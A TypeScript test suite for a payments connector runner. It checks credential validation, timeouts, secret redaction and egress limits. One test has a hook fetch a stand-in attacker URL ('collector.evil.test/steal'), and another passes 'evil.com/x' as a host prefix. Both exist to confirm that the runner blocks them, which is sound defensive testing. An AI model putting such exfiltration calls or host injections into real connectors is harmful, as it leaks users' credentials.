import { afterEach, describe, expect, it } from 'vitest';
import { isPaycoreError, PaycoreError } from './errors.js';
import { runDiscover, runVerify } from './run-verify.js';
import { exampleManifest, startServer } from './test-support/fixtures.js';
import type { Connector, Logger, VerifyHook } from './types.js';
import { failure, readJson, success } from './verify-helpers.js';

const SECRET = 'sk_test_SECRETVALUE42';
const input = { environment: 'sandbox' as const, credentials: { secretKey: SECRET } };
const closers: (() => Promise<void>)[] = [];
afterEach(async () => {
  await Promise.all(closers.splice(0).map((close) => close()));
});

function connector(verify: VerifyHook): Connector {
  return { manifest: exampleManifest(), verify };
}

function recordingLogger(lines: string[]): Logger {
  const push = (message: string, details?: Record<string, unknown>) =>
    lines.push(JSON.stringify({ message, details }));
  return { debug: push, info: push, warn: push, error: push };
}

describe('runVerify', () => {
  it('passes the credentials and a working fetch to the hook', async () => {
    const server = await startServer((req, res) =>
      res.end(JSON.stringify({ auth: req.headers.authorization })),
    );
    closers.push(server.close);
    const hook: VerifyHook = async ({ credentials }, ctx) => {
      const res = await ctx.fetch(`${ctx.baseUrl}/me`, {
        headers: { authorization: `Bearer ${String(credentials.secretKey)}` },
      });
      const body = await readJson<{ auth: string }>(res);
      return success({ id: 'acct_1', name: body?.auth === `Bearer ${SECRET}` ? 'Acme' : 'wrong' });
    };
    const result = await runVerify(connector(hook), input, {
      egressOverrides: { 'https://api.example.com': server.origin },
    });
    expect(result).toEqual({ ok: true, account: { id: 'acct_1', name: 'Acme' } });
  });

  it('refuses input that does not match the form, with every problem', async () => {
    let called = false;
    const error = await runVerify(
      connector(async () => {
        called = true;
        return success();
      }),
      { environment: 'staging', credentials: { secretKey: 'nope' } } as never,
    ).catch((e: unknown) => e);
    expect(isPaycoreError(error, 'credentials_invalid')).toBe(true);
    expect((error as { problems: unknown[] }).problems).toEqual([
      { pointer: '/environment', message: 'must be one of: sandbox, live' },
      {
        pointer: '/credentials/secretKey',
        message: 'must match the expected format: starts with sk_test_ or sk_live_',
      },
    ]);
    expect(called).toBe(false);
  });

  it('turns a call to an undeclared host into the connector\u2019s fault', async () => {
    const result = await runVerify(
      connector(async (_input, ctx) => {
        await ctx.fetch('https://collector.evil.test/steal');
        return success();
      }),
      input,
    );
    expect(result).toMatchObject({
      ok: false,
      reason: 'connector_failed',
      fault: 'undeclared_host',
      retryable: false,
    });
    expect(JSON.stringify(result)).toContain('collector.evil.test');
  });

  it('ends at the limit a hook that waits on nothing, as the connector\u2019s fault, not a provider timeout', async () => {
    const started = performance.now();
    const result = await runVerify(
      connector(() => new Promise(() => {})),
      input,
      { timeoutMs: 300 },
    );
    const elapsed = performance.now() - started;
    expect(result).toMatchObject({
      ok: false,
      reason: 'connector_failed',
      fault: 'time_limit',
      retryable: false,
    });
    expect(elapsed).toBeLessThan(400);
  });

  const hangingServer = async () => {
    const server = await startServer(() => {});
    closers.push(server.close);
    return server;
  };

  it('answers timeout when the provider never responds', async () => {
    const server = await hangingServer();
    const result = await runVerify(
      connector(async (_i, ctx) => {
        await ctx.fetch(`${ctx.baseUrl}/slow`);
        return success();
      }),
      input,
      { timeoutMs: 300, egressOverrides: { 'https://api.example.com': server.origin } },
    );
    expect(result).toMatchObject({ ok: false, reason: 'timeout', retryable: true });
  });

  it('never lets a thrown secret or stack out, in the result or the log', async () => {
    const lines: string[] = [];
    const result = await runVerify(
      connector(async () => {
        throw new Error(`exploded with ${SECRET}`);
      }),
      input,
      { logger: recordingLogger(lines) },
    );
    expect(result).toMatchObject({ ok: false, reason: 'connector_failed', fault: 'crash', retryable: false });
    const everything = JSON.stringify(result) + lines.join('\n');
    expect(everything).not.toContain(SECRET);
    expect(everything).not.toMatch(/at .*\.ts:\d+/);
    expect(JSON.stringify(result)).toContain('exploded with [redacted]');
  });

  it('scrubs secrets a hook puts in its message or account', async () => {
    const result = await runVerify(
      connector(async () =>
        failure('invalid_credentials', `Key ${SECRET} was refused`, { fields: ['secretKey', 'nonsense'] }),
      ),
      input,
    );
    expect(result).toEqual({
      ok: false,
      reason: 'invalid_credentials',
      message: 'Key [redacted] was refused',
      fields: ['secretKey'],
      retryable: false,
    });
  });

  it('reports a malformed result instead of passing it on', async () => {
    const result = await runVerify(
      connector((async () => ({ ok: 'yes', secret: SECRET })) as unknown as VerifyHook),
      input,
    );
    expect(result).toMatchObject({ ok: false, reason: 'connector_failed', fault: 'malformed_result' });
    expect(JSON.stringify(result)).not.toContain(SECRET);
  });

  it('ends with verify_aborted, not a provider timeout, when the caller gives up', async () => {
    const caller = new AbortController();
    const running = runVerify(
      connector(async (_i, ctx) => {
        await ctx.fetch(`${ctx.baseUrl}/slow`);
        return success();
      }),
      input,
      {
        signal: caller.signal,
        egressOverrides: { 'https://api.example.com': (await hangingServer()).origin },
      },
    );
    setTimeout(() => caller.abort(new Error('client went away')), 50);
    await expect(running).rejects.toMatchObject({ code: 'verify_aborted' });
  });

  it('starts the clock only once admitted, and releases the slot however the verify ends', async () => {
    const events: string[] = [];
    const admit = async () => {
      events.push('admitted');
      await new Promise((resolve) => setTimeout(resolve, 300));
      return () => events.push('released');
    };
    const result = await runVerify(
      connector(async () => success()),
      input,
      { timeoutMs: 200, admit },
    );
    expect(result).toEqual({ ok: true });
    expect(events).toEqual(['admitted', 'released']);
    const shed = () => Promise.reject(new PaycoreError('overloaded', 'full'));
    await expect(
      runVerify(
        connector(async () => success()),
        input,
        { admit: shed },
      ),
    ).rejects.toMatchObject({
      code: 'overloaded',
    });
  });

  it('runs a discover hook under the same rules, and says when a connector has none', async () => {
    const discovered = {
      paymentMethods: [{ method: 'payment_card', currencies: ['USD'] }],
      payoutMethods: [],
    };
    const withDiscover: Connector = { ...connector(async () => success()), discover: async () => discovered };
    await expect(runDiscover(withDiscover, input)).resolves.toEqual({ ok: true, discovered });
    await expect(
      runDiscover(
        connector(async () => success()),
        input,
      ),
    ).resolves.toMatchObject({
      ok: false,
      reason: 'unsupported',
    });
    const malformed: Connector = {
      ...connector(async () => success()),
      discover: (async () => ({ paymentMethods: 'card' })) as unknown as Connector['discover'],
    };
    await expect(runDiscover(malformed, input)).resolves.toMatchObject({
      reason: 'connector_failed',
      fault: 'malformed_result',
    });
  });

  it('refuses a connector that is not ready', async () => {
    const notReady: Connector = { manifest: { ...exampleManifest(), status: 'not-ready' } };
    await expect(runVerify(notReady, input)).rejects.toMatchObject({ code: 'connector_not_ready' });
  });

  it('fills host placeholders from credential fields and refuses values that are not a host label', async () => {
    const server = await startServer((_req, res) => res.end('{}'));
    closers.push(server.close);
    const manifest = exampleManifest();
    manifest.environments.live = {
      baseUrl: 'https://{prefix}-live.example.com/api',
      hosts: ['{prefix}-live.example.com'],
    };
    manifest.credentials.schema.properties.prefix = {
      type: 'string',
      title: 'Prefix',
      description: 'any text',
      pattern: '.*',
    };
    const seen: string[] = [];
    const hook: VerifyHook = async (_i, ctx) => {
      seen.push(ctx.baseUrl);
      await ctx.fetch(`${ctx.baseUrl}/ping`);
      return success();
    };
    const live = {
      environment: 'live' as const,
      credentials: { secretKey: 'sk_live_abcdefgh', prefix: 'acme1' },
    };
    const ok = await runVerify({ manifest, verify: hook }, live, {
      egressOverrides: { 'https://acme1-live.example.com': server.origin },
    });
    expect(ok).toEqual({ ok: true });
    expect(seen).toEqual(['https://acme1-live.example.com/api']);
    const bad = runVerify(
      { manifest, verify: hook },
      { ...live, credentials: { ...live.credentials, prefix: 'evil.com/x' } },
    );
    await expect(bad).rejects.toMatchObject({
      code: 'credentials_invalid',
      problems: [
        {
          pointer: '/credentials/prefix',
          message: 'must be a single host-name label: letters, digits and dashes',
        },
      ],
    });
    const missing = runVerify(
      { manifest, verify: hook },
      { ...live, credentials: { secretKey: 'sk_live_abcdefgh' } },
    );
    await expect(missing).rejects.toMatchObject({
      problems: [{ pointer: '/credentials/prefix', message: 'is required for the live environment' }],
    });
    expect(seen).toHaveLength(1);
  });
});
